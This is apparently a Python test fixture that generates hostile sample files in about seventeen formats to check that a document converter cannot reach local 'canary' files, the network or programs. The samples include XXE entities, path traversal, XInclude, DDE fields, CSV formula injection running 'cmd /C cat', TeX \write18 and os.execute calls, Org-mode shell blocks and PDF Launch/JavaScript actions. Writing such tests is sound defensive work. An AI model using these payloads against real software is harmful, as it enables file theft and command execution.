"""For each format, a file that reaches for everything it can think of: other files, the network, programs."""

# ruff: noqa: E501 - the samples are as such files are

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from pathlib import Path
from typing import Final

from tests.formats.books import book
from tests.formats.manuscripts import docx_bytes, odt_bytes, p
from tests.hostile.goodfiles import pdf, stream, web_archive

FAR: Final = "http://127.0.0.1:9/x.png"
WORDS: Final = "The lamp was lit at dusk, and nobody saw it burn through the night until morning came."
PROSE: Final = f"<p>{WORDS}</p>" * 8


def places(canaries: Path) -> list[str]:
    """What a file may name to get at the canaries, or out: a file lies in a folder beside theirs, with a link in it."""
    away = [f"file://{canaries}/secret.png", f"{canaries}/secret.png", "../canaries/secret.png", "link.png", FAR]
    return [*away, f"file://localhost{canaries}/secret.png", "..\\canaries\\secret.png", "%2e%2e/canaries/secret.png"]


def drawing(canaries: Path) -> str:
    """A drawing that is shown, with everything in it that could reach out."""
    parts = [
        f'<image href="{a}" width="9" height="9"/><use href="{a}#x"/><rect fill="url({a}#g)" filter="url({a}#f)" width="9" height="9"/>'
        f'<style>@import url("{a}"); rect {{ fill: url({a}) }} @font-face {{ font-family: F; src: url({a}) }}</style>'
        f'<feImage href="{a}"/><script href="{a}"></script><a href="{a}"><text font-family="F" x="9" y="9">A</text></a>'
        f'<foreignObject width="9" height="9"><iframe src="{a}"></iframe></foreignObject><animate href="{a}"/>'
        for a in places(canaries)
    ]
    return f'<svg width="300" height="100"><title>Reach</title>{"".join(parts)}</svg>'


def page(canaries: Path) -> bytes:
    """A web page."""
    parts = [
        f'<img src="{a}" srcset="{a} 2x, {a}?2 3x"><iframe src="{a}"></iframe><object data="{a}"></object>'
        f'<embed src="{a}"><link rel="stylesheet" href="{a}"><script src="{a}"></script><video poster="{a}" src="{a}">'
        f'<svg><image href="{a}"/><use href="{a}#x"/></svg><p style="background:url({a})">Painted paragraph.</p>'
        f'<style>@import url("{a}"); body {{ background: url({a}) }} @font-face {{ src: url({a}) }}</style>'
        f'<meta http-equiv="refresh" content="0;url={a}"><picture><source srcset="{a}"></picture><a href="{a}">go</a>'
        f'<input type="image" src="{a}"><table background="{a}"><tr><td>cell</td></tr></table>'
        for a in places(canaries)
    ]
    head = f'<base href="file://{canaries}/"><link rel="preload" as="image" href="{FAR}">'
    body = f"{drawing(canaries)}{PROSE}{''.join(parts)}{PROSE}"
    return f"<!DOCTYPE html><html><head><title>Reach</title>{head}</head><body>{body}</body></html>".encode()


def _entity(canaries: Path, root: str = "html") -> str:
    """A document type that names a file for an entity, and one for itself."""
    return (
        f'<?xml version="1.0"?><!DOCTYPE {root} SYSTEM "file://{canaries}/secret.txt" [<!ENTITY x SYSTEM "file://{canaries}/secret.txt">'
        f'<!ENTITY % y SYSTEM "{FAR}"> %y;]>\n'
    )


def _including(canaries: Path) -> str:
    """XInclude and a style sheet, in XML."""
    return f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{canaries}/secret.txt" parse="text"/>'


def _xhtml(canaries: Path) -> bytes:
    return _entity(canaries).encode() + page(canaries).replace(b"The lamp", b"&x; The lamp")


def _mhtml(canaries: Path) -> bytes:
    return web_archive(page(canaries), (f"file://{canaries}/secret.png", b"none"), ("../canaries/secret.png", b"none"))


def _markdown(canaries: Path) -> bytes:
    lines = [f"![x]({a})" for a in places(canaries)]
    lines += [f"[x]: {a}" for a in places(canaries)]
    lines += ["![[../canaries/secret.md]]", '--8<-- "../canaries/secret.txt"', f'--8<-- "{canaries}/secret.txt"']
    return ("# Reaching\n\nThe lamp was lit at dusk.\n\n" + "\n\n".join(lines)).encode() + b"\n\n" + page(canaries)


def _epub(canaries: Path) -> bytes:
    images = "".join(f'<img src="{a}"/><a href="{a}">x</a>' for a in places(canaries))
    chapter = (
        f'{_entity(canaries)}<?xml-stylesheet href="file://{canaries}/secret.txt"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>t</title>'
        f'<link rel="stylesheet" href="{FAR}"/></head><body><p>{WORDS} &x;</p>{_including(canaries)}{images}<script>fetch("{FAR}")</script></body></html>'
    )
    manifest = "".join(f'<item id="i{n}" href="{a}" media-type="image/png"/>' for n, a in enumerate(places(canaries)))
    manifest += f'<item id="e" href="file://{canaries}/secret.txt" media-type="application/xhtml+xml"/><item id="f" href="../../canaries/secret.txt" media-type="application/xhtml+xml"/>'
    return book(
        {"a.xhtml": chapter, "b.xhtml": f"<p>{WORDS}</p>{images}"},
        spine='<itemref idref="a"/><itemref idref="b"/><itemref idref="e"/><itemref idref="f"/>',
        manifest=manifest,
        extra={"../../canaries/secret.md": "over it", str(canaries / "secret.md"): "over it", "C:\\x.txt": "x"},
    )


def _docx(canaries: Path) -> bytes:
    names = places(canaries)
    links = [(f"r{n}", "image", a.replace("\\", "/")) for n, a in enumerate(names)]
    drawings = "".join(
        f'<w:r><w:drawing><wp:inline><a:blip r:link="r{n}" r:embed="r{n}"/></wp:inline></w:drawing></w:r>'
        for n in range(len(names))
    )
    fields = "".join(
        f'<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>{code} "{canaries}/secret.txt"</w:instrText><w:fldChar w:fldCharType="end"/></w:r>'
        for code in ("INCLUDETEXT", "INCLUDEPICTURE", "DDEAUTO cmd", "LINK Word.Document")
    )
    body = f'{p(WORDS)}<w:p>{drawings}{fields}</w:p><w:altChunk r:id="t"/><w:subDoc r:id="t"/>'
    template = ("t", "attachedTemplate", f"file://{canaries}/secret.txt")
    return docx_bytes(body, *links, template, settings='<w:attachedTemplate r:id="t"/>')


def _odt(canaries: Path) -> bytes:
    frames = "".join(
        f'<draw:frame><draw:image xlink:href="{a}"/><draw:object xlink:href="{a}"/></draw:frame>'
        for a in places(canaries)
    )
    section = (
        f'<text:section text:name="s"><text:section-source xlink:href="file://{canaries}/secret.txt"/></text:section>'
    )
    return odt_bytes(f"<text:p>{WORDS} {frames}</text:p>{section}")


def _rtf(canaries: Path) -> bytes:
    fields = "".join(
        f'{{\\field{{\\*\\fldinst {code} "{a}"}}{{\\fldrslt shown}}}}'.replace("\\canaries", "\\\\canaries")
        for a in places(canaries)
        for code in ("INCLUDEPICTURE", "INCLUDETEXT", "IMPORT", "DDEAUTO cmd", "HYPERLINK")
    )
    return (
        rf"{{\rtf1\ansi{{\*\template {canaries}/secret.txt}}{{\object\objlink{{\*\objclass Word}}{{\*\objdata 00}}}} {WORDS}\par {fields}"
        rf"{{\*\datastore 00}}\par}}"
    ).encode("latin-1")  # fmt: skip


def _pdf(canaries: Path) -> bytes:
    secret, text = (
        f"{canaries}/secret.txt".encode(),
        b"BT /F1 12 Tf 1 0 0 1 72 700 Tm (%s) Tj ET /I1 Do /I2 Do" % WORDS.encode(),
    )
    actions = (
        b"/S /Launch /F (%s)" % secret,
        b"/S /JavaScript /JS (app.launchURL\\('%s'\\); this.importDataObject\\('x','%s'\\);)" % (FAR.encode(), secret),
        b"/S /GoToR /F (%s) /D [0 /Fit]" % secret,
        b"/S /GoToE /F << /F (%s) >> /T << /R /C /N (x) >>" % secret,
        b"/S /URI /URI (%s)" % FAR.encode(),
        b"/S /SubmitForm /F (%s)" % FAR.encode(),
        b"/S /ImportData /F (%s)" % secret,
    )
    annotations = b"".join(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << %s >> /AA << /PO << %s >> >> >> " % (a, a)
        for a in actions
    )
    following = b"".join(b"/Next << %s " % a for a in actions[1:]) + b">> " * (len(actions) - 1)
    return pdf(
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [%s] /AA << /O << %s >> >>"
        b" /Resources << /Font << /F1 5 0 R >> /XObject << /I1 6 0 R /I2 7 0 R >> >> >>" % (annotations, actions[1]),
        stream(text),
        b"<< /Type /Font /Subtype /TrueType /BaseFont /Secret /FontDescriptor << /Type /FontDescriptor /FontName /Secret /Flags 32 /FontFile2 8 0 R >> >>",
        stream(b"", b"/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /F (%s)" % secret),
        stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F << /Type /Filespec /F (%s) >> /Page 0 >>" % secret),
        stream(b"", b"/F << /Type /Filespec /FS /URL /F (%s) >>" % FAR.encode()),
        stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template/></xdp:xdp>"),
        root=b"/OpenAction << %s %s >> /Names << /EmbeddedFiles << /Names [(x) << /Type /Filespec /F (%s) >>] >>"
        b" /JavaScript << /Names [(x) << %s >>] >> >> /AcroForm << /XFA 9 0 R /Fields [] >>"
        % (actions[0], following, secret, actions[1]),
    )  # fmt: skip


def _jats(canaries: Path) -> bytes:
    graphics = "".join(
        f'<fig><graphic xlink:href="{a}"/><media xlink:href="{a}"/></fig><p><ext-link xlink:href="{a}">x</ext-link></p>'
        for a in places(canaries)
    )
    return (
        f'{_entity(canaries, "article")}<article xmlns:xlink="http://www.w3.org/1999/xlink"><front><article-meta><title-group><article-title>Reach</article-title>'
        f"</title-group></article-meta></front><body><sec><title>A</title><p>{WORDS} &x;</p>{_including(canaries)}{graphics}</sec></body></article>"
    ).encode()


def _tei(canaries: Path) -> bytes:
    figures = "".join(f'<figure><graphic url="{a}"/></figure><ptr target="{a}"/>' for a in places(canaries))
    return (
        f'{_entity(canaries, "TEI")}<TEI xmlns="http://www.tei-c.org/ns/1.0"><teiHeader><fileDesc><titleStmt><title>Reach</title></titleStmt></fileDesc></teiHeader>'
        f"<text><body><div><head>A</head><p>{WORDS} &x;</p>{_including(canaries)}{figures}</div></body></text></TEI>"
    ).encode()


def _rst(canaries: Path) -> bytes:
    out = [f"Reach\n=====\n\n{WORDS}\n"]
    for a in places(canaries):
        out.append(f".. image:: {a}\n\n.. figure:: {a}\n\n   Caption.\n")
    secret = f"{canaries}/secret.txt"
    out.append(f".. include:: {secret}\n\n.. include:: ../canaries/secret.txt\n\n.. literalinclude:: {secret}\n")
    out.append(
        f".. csv-table::\n   :file: {secret}\n\n.. csv-table::\n   :url: {FAR}\n\n.. raw:: html\n   :file: {secret}\n"
    )
    out.append(f".. raw:: html\n   :url: {FAR}\n\n.. code:: python\n   :file: {secret}\n\n.. _x: file://{secret}\n")
    return "\n".join(out).encode()  # fmt: skip


def _org(canaries: Path) -> bytes:
    secret = f"{canaries}/secret.txt"
    lines = [f"[[file:{a}]] [[{a}]]" for a in places(canaries)]
    lines += [f'#+INCLUDE: "{secret}"', f"#+SETUPFILE: {secret}", f"[[shell:cat {secret}]] [[elisp:(find-file x)]]"]
    lines += [f"#+BEGIN_SRC sh :results output\ncat {secret}\n#+END_SRC", f"#+CALL: x() src_sh{{cat {secret}}}"]
    return f"#+TITLE: Reach\n\n* A\n{WORDS}\n\n".encode() + "\n\n".join(lines).encode()


def _tex(canaries: Path) -> bytes:
    secret = f"{canaries}/secret.txt"
    reach = "".join(f"\\includegraphics{{{a}}}\n\\href{{{a}}}{{x}}\n" for a in places(canaries))
    reach += "".join(
        f"\\{c}{{{secret}}}\n" for c in ("input", "include", "verbatiminput", "lstinputlisting", "bibliography")
    )
    reach += f"\\openin5={secret} \\read5 to\\x \\x\n\\write18{{cat {secret}}}\n\\immediate\\write18{{id}}\n\\directlua{{os.execute('id')}}\n"
    return f"\\documentclass{{article}}\\begin{{document}}\n{WORDS}\n\n{reach}\\end{{document}}\n".encode()  # fmt: skip


def _csv(canaries: Path) -> bytes:
    cells = "".join(
        f'"{a}","=HYPERLINK(\'{a}\')","=cmd|\'/C cat {canaries}/secret.txt\'!A0"\n' for a in places(canaries)
    )
    return f'a,b,c\n"{WORDS}",2,3\n{cells}'.encode()  # fmt: skip


def _eml(canaries: Path) -> bytes:
    body = base64.encodebytes(page(canaries)).decode().replace("\n", "\r\n")
    reach = f'message/external-body; access-type=local-file; name="{canaries}/secret.txt"'
    far = 'message/external-body; access-type=URL; URL="http://127.0.0.1:9/x"'
    return (
        "From: ann@x.example\r\nTo: bo@x.example\r\nSubject: Reach\r\nDate: Sat, 29 Apr 2017 10:00:00 +0000\r\nMIME-Version: 1.0\r\n"
        f'Disposition-Notification-To: ann@x.example\r\nContent-Type: multipart/mixed; boundary="B"\r\n\r\n--B\r\nContent-Type: text/plain\r\n\r\n{WORDS}\r\n'
        f"--B\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n{body}\r\n--B\r\nContent-Type: {reach}\r\n\r\nContent-Type: text/plain\r\n\r\n"
        f'--B\r\nContent-Type: {far}\r\n\r\nContent-Type: text/plain\r\n\r\n--B\r\nContent-Type: text/plain; name="{canaries}/secret.md"\r\n'
        f'Content-Disposition: attachment; filename="{canaries}/secret.md"\r\n\r\nover it\r\n--B--\r\n'
    ).encode()  # fmt: skip


def _srt(canaries: Path) -> bytes:
    cues = [WORDS, *(f'<font face="{a}"><img src="{a}"><a href="{a}">x</a></font>' for a in places(canaries))]
    return "".join(
        f"{n}\n00:00:{n:02},000 --> 00:00:{n:02},900\n{cue}\n\n" for n, cue in enumerate(cues, 1)
    ).encode()  # fmt: skip


def _text(canaries: Path) -> bytes:
    return f"A plain text\n\n{json.dumps(places(canaries))}\n\nfile://{canaries}/secret.txt\n\n{WORDS}\n".encode()


# Under the names of the rows of FORMATS: (the end of the file's name, what makes it); "" is the row's first suffix.
REACHING: Final[dict[str, list[tuple[str, Callable[[Path], bytes]]]]] = {
    "html": [("", page), (".xhtml", _xhtml)],
    "mhtml": [("", _mhtml)],
    "md": [("", _markdown)],
    "epub": [("", _epub)],
    "docx": [("", _docx)],
    "odt": [("", _odt)],
    "rtf": [("", _rtf)],
    "pdf": [("", _pdf)],
    "jats": [("", _jats)],
    "tei": [("", _tei)],
    "rst": [("", _rst)],
    "org": [("", _org)],
    "tex": [("", _tex)],
    "csv": [("", _csv)],
    "eml": [("", _eml)],
    "srt": [("", _srt)],
    "txt": [("", _text)],
}
